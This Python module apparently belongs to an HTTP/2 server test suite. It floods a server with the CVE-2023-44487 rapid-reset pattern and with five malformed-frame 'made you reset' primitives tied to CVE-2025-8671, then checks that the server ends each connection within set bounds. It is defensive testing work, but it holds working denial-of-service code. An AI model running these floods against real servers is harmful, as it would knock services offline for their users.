"""Attacks that make and cancel streams faster than they can be served: rapid reset, and making the server reset."""

from __future__ import annotations

import time

from hyperframe.frame import DataFrame, RstStreamFrame, WindowUpdateFrame

import wire
from stage import Row, Scene

# CVE-2023-44487: pairs of HEADERS and RST_STREAM until the connection ends.
PAIRS_MAX = 5_000
# CVE-2025-8671: streams that the server was made to reset until the connection ends.
RESETS_MAX = 1_100
# What a client sends in any case: more than any bound, so that a missing one shows.
STREAMS_SENT_MAX = 60_000
# 11 to 17 are measured; without the bound on what waits to be reset it is 241.
UNREAD_MEMORY_MIB = 24
UNREAD_CONNECTIONS_MAX = 8
WAIT_S = 2.0

OPEN = wire.opening(wire.MATCH_BATCH)
CANCEL = RstStreamFrame(1, 8).serialize()
LENGTH = (("content-length", "5"),)


def raw_window_update(increment: int) -> bytes:
    """WINDOW_UPDATE on stream 1; hyperframe makes none with an increment of 0."""
    frame = WindowUpdateFrame(1, 1).serialize()
    return frame[:-4] + increment.to_bytes(4, "big")


# Frames on one stream that are an error of that stream.
PRIMITIVES = {
    "window_overflow": OPEN + raw_window_update(wire.WINDOW_MAX),
    "content_length": wire.opening(wire.MATCH_BATCH, more=LENGTH) + DataFrame(1, b"x" * 10).serialize(),
    "end_with_length": wire.opening(wire.MATCH_BATCH, more=LENGTH, end=True),
    "data_after_end": wire.opening(wire.MATCH_BATCH, end=True) + DataFrame(1, b"x").serialize(),
    "zero_increment": OPEN + raw_window_update(0),
}


def rapid_reset(scene: Scene) -> None:
    """Connection after connection, each until it is ended."""
    most = connections = 0
    while scene.lasts():
        with scene.wire() as attacker:
            sent = attacker.flood(OPEN + CANCEL, STREAMS_SENT_MAX, scene.until)
            ended = attacker.wait_until_over(WAIT_S if sent >= PAIRS_MAX else 0)
            connections, most = connections + 1, max(most, sent)
            if sent >= PAIRS_MAX and not ended:
                scene.demand(False, "a connection", f"lives on after {sent} pairs")
                break
    scene.note("connections", connections)
    scene.most("pairs", most, PAIRS_MAX)


def made_you_reset(primitive: str) -> Row:
    """The row of one primitive."""

    def attack(scene: Scene) -> None:
        most = connections = 0
        while scene.lasts():
            with scene.wire() as attacker:
                sent = attacker.flood(PRIMITIVES[primitive], STREAMS_SENT_MAX, scene.until)
                ended = attacker.wait_until_over(WAIT_S if sent >= RESETS_MAX else 0)
                resets = attacker.frames[wire.RST_STREAM]
                connections, most = connections + 1, max(most, resets)
                if attacker.goaway is not None:
                    # A stream is two numbers; the last one that the server looked at says how far it went.
                    most = max(most, (attacker.goaway[0] + 1) // 2)
                if sent >= RESETS_MAX and not ended:
                    scene.demand(False, "a connection", f"lives on after {resets} resets")
                    break
        scene.note("connections", connections)
        scene.most("resets", most, RESETS_MAX)

    about = f"streams that the server must reset, by {primitive.replace('_', ' ')}, until GOAWAY"
    return Row(f"made_you_reset_{primitive}", about, attack)


def unread(primitive: str) -> Row:
    """The same from clients that never read: what the server has to say may not pile up."""

    def attack(scene: Scene) -> None:
        wires: list[wire.Wire] = []
        sent = 0
        try:
            while scene.lasts():
                if len(wires) == UNREAD_CONNECTIONS_MAX:
                    wires.pop(0).close()
                wires.append(scene.wire(reads=False))
                until = min(scene.until, time.monotonic() + scene.form.attack_s / UNREAD_CONNECTIONS_MAX)
                sent += wires[-1].flood(PRIMITIVES[primitive], STREAMS_SENT_MAX, until)
        finally:
            for attacker in wires:
                attacker.close()
        scene.note("streams_sent", sent)

    about = f"the same by {primitive.replace('_', ' ')}, and nobody reads the resets"
    return Row(f"unread_resets_{primitive}", about, attack, memory_mib=UNREAD_MEMORY_MIB)


ROWS = [
    Row("rapid_reset", "calls that are cancelled as soon as they begin, until GOAWAY", rapid_reset),
    *map(made_you_reset, PRIMITIVES),
    *map(unread, ["window_overflow", "content_length", "end_with_length"]),
]
